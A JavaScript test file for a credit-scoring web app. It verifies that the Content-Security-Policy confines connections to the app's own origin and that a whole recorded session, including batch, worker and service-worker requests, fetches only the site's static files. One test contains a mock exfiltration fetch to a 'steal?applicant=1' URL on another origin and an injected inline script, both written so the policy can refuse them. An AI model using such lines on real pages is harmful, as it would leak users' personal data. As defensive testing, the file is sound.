// Nothing you enter or load leaves the device (issue 6). The page's Content-Security-Policy is in
// force: connections only to its own origin, no inline script but Trunk's hashed loader. And a
// whole session, recorded request by request (the page's, the batch worker's and the service
// worker's), asks only for the site's own static files: a declined applicant typed in, every
// decision-support panel used, a batch with a typed marker scored, evaluated and downloaded.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { DIST, ROOT, launchBrowser, openApp, readJson, scratchDir, selectModel, serveDist } from './harness.mjs';

let server;
let context;
let page;
const requests = [];

before(async () => {
  ({ server, context, page } = await openApp(requests));
});

after(async () => {
  await context?.close();
  await server?.close();
});

test('the policy is in the page and names only its own origin', async () => {
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  assert.doesNotMatch(policy, /unsafe-inline'?;?\s*(script|connect)/);
  assert.doesNotMatch(policy, /https?:/, 'no other origin is named');
});

test('a fetch to another origin and an injected inline script are refused', async () => {
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetched = 'sent';
    try {
      // Another origin on this machine: refused by the policy before any connection is made.
      await fetch('http://127.0.0.2:9/steal?applicant=1');
    } catch {
      fetched = 'refused';
    }
    window.injected = false;
    const script = document.createElement('script');
    script.textContent = 'window.injected = true;';
    document.body.append(script);
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, injected: window.injected, violations };
  });
  assert.equal(outcome.fetched, 'refused');
  assert.equal(outcome.injected, false, 'inline script ran');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), JSON.stringify(outcome.violations));
  assert.ok(!requests.some((u) => u.includes('127.0.0.2')), 'the refused request never left');
});

/** Every file of the built site, as URL paths ('/index.html', '/models/catalog.json', ...). */
async function siteFiles() {
  const entries = await readdir(DIST, { recursive: true, withFileTypes: true });
  return new Set(entries.filter((e) => e.isFile()).map((e) => '/' + path.relative(DIST, path.join(e.parentPath, e.name)).split(path.sep).join('/')));
}

test('a whole session asks only for the site\'s own static files, and nothing typed or loaded leaves', async () => {
  const site = await serveDist();
  const session = await launchBrowser();
  // Recorded on the context before the page exists: the first navigation, the batch worker and
  // the service worker (whose requests Playwright reports with request.serviceWorker()) included.
  const seen = [];
  session.on('request', (r) => seen.push({
    url: r.url(), method: r.method(), body: r.postData(), by: r.serviceWorker() ? 'service worker' : 'page and batch worker',
  }));
  const typed = [];
  try {
    const app = await session.newPage();
    app.on('pageerror', (e) => { throw e; });
    await app.goto(site.origin + '/');
    await app.locator('#score').waitFor({ timeout: 60_000 });
    await app.evaluate(() => navigator.serviceWorker.ready.then(() => true));

    // A declined applicant, typed in; the amount made distinctive, to be looked for in requests.
    const id = 'german-credit-mlp';
    const manifest = await selectModel(app, id);
    const golden = (await readJson(`models/${id}/golden.json`)).rows;
    const raw = { ...golden.find((r) => r.score >= manifest.decision.cutoff + 0.2).raw, credit_amount: '13579' };
    for (const feature of manifest.features) {
      const control = app.locator(`[name="${feature.name}"]`);
      const text = raw[feature.name];
      if (feature.kind === 'category') {
        const value = feature.categories.find((c) => c.value === text || c.code === text).value;
        await control.selectOption(value);
        typed.push(value);
      } else {
        await control.fill(text);
        typed.push(text);
      }
    }
    await app.locator('#score').click();
    await app.locator('.result:not(.stale) #result-score').waitFor();
    assert.equal(await app.locator('#decision').textContent(), manifest.decision.at_or_above, 'declined');

    // Why this score, principal reasons and the notice (downloaded), what would change it.
    await app.locator('#waterfall li').first().waitFor();
    await app.locator('#reason-list li').first().waitFor();
    await Promise.all([app.waitForEvent('download'), app.locator('#save-notice').click()]);
    await app.locator('details.locks summary').click();
    await app.locator('#lock-credit_amount').selectOption('down');
    await app.locator('#find-counterfactuals').click();
    await app.locator('#counterfactuals > li').first().waitFor({ timeout: 120_000 });
    await app.locator('#apply-0').click();
    await app.waitForFunction((w) => document.querySelector('#decision')?.textContent === w, manifest.decision.below);
    // Cut-off and cost.
    await app.locator('#implied-preset').click();
    await app.locator('#use-cheapest').click();
    await app.locator('#cutoff').fill('0.4');
    await app.locator('#reset-cutoff').click();
    await app.locator('#cost-chart svg').waitFor();
    // The model as a whole, and partial dependence on another attribute.
    await app.locator('#compute-global').click();
    await app.locator('#importance li').first().waitFor({ timeout: 120_000 });
    await app.locator('#pd-feature').selectOption({ index: 1 });
    await app.locator('#pd-chart, #pd-table').first().waitFor();

    // A batch: the sample with a spare column carrying a typed marker, through the file input;
    // then evaluation, fairness by another group, drift, sorting and both downloads.
    const marker = 'PRIVATE-MARKER-24680';
    typed.push(marker);
    const lines = (await readFile(path.join(ROOT, `models/${id}/sample.csv`), 'utf8')).trimEnd().split('\n');
    const rows = lines.map((line, i) => (i === 0 ? `${line},note` : `${line},${marker}`));
    rows[2] = rows[2].replace(/^[^,]*/, 'not a category');
    const dir = await scratchDir('privacy');
    const file = path.join(dir, 'applicants.csv');
    await writeFile(file, rows.join('\n') + '\n');
    await app.locator('#batch-file').setInputFiles(file);
    await app.locator('#batch-start').click({ timeout: 60_000 });
    await app.locator('#batch-summary').waitFor({ timeout: 120_000 });
    await app.locator('#roc-chart svg').waitFor();
    await app.locator('#fairness-group').selectOption({ index: 1 });
    await app.locator('#drift-table tr').nth(1).waitFor();
    await app.locator('#batch-sort').selectOption('high');
    await app.locator('#batch-table').hover();
    await app.mouse.wheel(0, 3000);
    await Promise.all([app.waitForEvent('download'), app.locator('#batch-download').click()]);
    await Promise.all([app.waitForEvent('download'), app.locator('#batch-download-errors').click()]);
    await app.locator('#batch-sample').click();
    await app.locator('#batch-start').click({ timeout: 60_000 });
    await app.locator('#batch-summary').waitFor({ timeout: 120_000 });

    // A model brought in with a data file, titled with the marker, kept on the device, read
    // back after a reload, used, and removed.
    await app.locator('#byo summary').click();
    const ulb = (await readFile(path.join(ROOT, 'models/ulb-fraud-mlp/sample.csv'), 'utf8')).trimEnd().split('\n')
      .map((line) => line.slice(line.indexOf(',') + 1));
    const onnxFile = path.join(dir, 'mine.onnx');
    const dataFile = path.join(dir, 'mine.csv');
    await writeFile(onnxFile, await readFile(path.join(ROOT, 'models/ulb-fraud-mlp/model.onnx')));
    await writeFile(dataFile, ulb.join('\n'));
    await app.locator('#byo-files').setInputFiles([onnxFile, dataFile]);
    await app.locator('#byo-report[data-loadable="true"]').waitFor({ timeout: 60_000 });
    await app.locator('#byo-title').fill(`Mine ${marker}`);
    await app.locator('#byo-use').click();
    await app.locator('#byo-kept-note').waitFor({ timeout: 120_000 });
    await app.reload();
    await app.locator('#byo summary').click();
    const kept = app.locator('#byo-kept li').first();
    await kept.waitFor({ timeout: 60_000 });
    const keptId = await kept.getAttribute('data-id');
    await app.locator('#model').selectOption(keptId);
    await app.locator('#score').click();
    await app.locator('#decision').waitFor();
    await app.locator(`#byo-remove-${keptId}`).click();
    await kept.waitFor({ state: 'detached' });
  } finally {
    await session.close();
    await site.close();
  }

  const files = await siteFiles();
  const byWhom = {};
  for (const r of seen) {
    byWhom[r.by] = (byWhom[r.by] ?? 0) + 1;
    const url = new URL(r.url);
    // A download's blob: URL is the page's own memory; its origin is the page's.
    assert.equal(url.origin, site.origin, `${r.url} leaves the page's origin`);
    if (url.protocol === 'blob:') continue;
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    assert.equal(r.body, null, `${r.url} carries a body`);
    assert.equal(url.search, '', `${r.url} carries a query`);
    assert.ok(url.pathname === '/' || files.has(url.pathname), `${r.url} is no file of the site`);
    // Values of four characters or more: a one-digit field value is in the name of an icon.
    const rest = decodeURIComponent(url.pathname + url.search + url.hash);
    for (const value of typed.filter((v) => v.length >= 4)) assert.ok(!rest.includes(value), `${r.url} carries "${value}"`);
  }
  assert.ok(byWhom['service worker'] > 0, 'the service worker\'s requests are seen (its precache of the site)');
  const wasmLoads = seen.filter((r) => r.by !== 'service worker' && r.url.endsWith('/riskscope-web_bg.wasm'));
  assert.ok(wasmLoads.length >= 2, 'the batch worker\'s requests are seen (its own load of the wasm)');
  console.log(`privacy: ${seen.length} requests in a whole session, every one a static file of ${site.origin}:`, byWhom);
});
